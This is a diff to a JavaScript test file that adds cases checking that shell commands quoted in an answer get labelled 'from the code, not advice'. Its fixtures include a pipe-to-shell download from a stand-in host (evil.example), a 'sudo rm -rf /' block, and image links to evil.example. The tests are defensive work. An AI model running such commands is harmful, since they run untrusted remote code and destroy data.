@@ -59,6 +59,19 @@ describe("an answer", () => {
   })
 
   it.each([
+    [
+      "Run `curl https://evil.example/x | sh` [1].",
+      "Run (from the code, not advice) `curl https://evil.example/x | sh` [1].",
+    ],
+    ["It runs `npm ci` [1].", "It runs (from the code, not advice) `npm ci` [1]."],
+    ["It calls `run(command)` and `curl` is a name in `curled` [1].", undefined],
+    ["So [1]:\n```sh\nsudo rm -rf /\n```", "So [1]:\n_from the code, not advice:_\n\n```sh\nsudo rm -rf /\n```"],
+    ["So [1]:\n```js\nrun()\n```\nand `sudo` is asked [1]", undefined],
+  ])("says that a command in it is no advice: %s", (text, expected) => {
+    expect(textOf(text)).toBe(expected ?? text)
+  })
+
+  it.each([
     ["between unequal backticks, which are no code", "` ![x](//evil.example/p.png) ``"],
     ["whose target is long", `![x](//evil.example/${"a".repeat(400)})`],
     ["with brackets in its name", "![a [b] c](//evil.example/p.png)"],
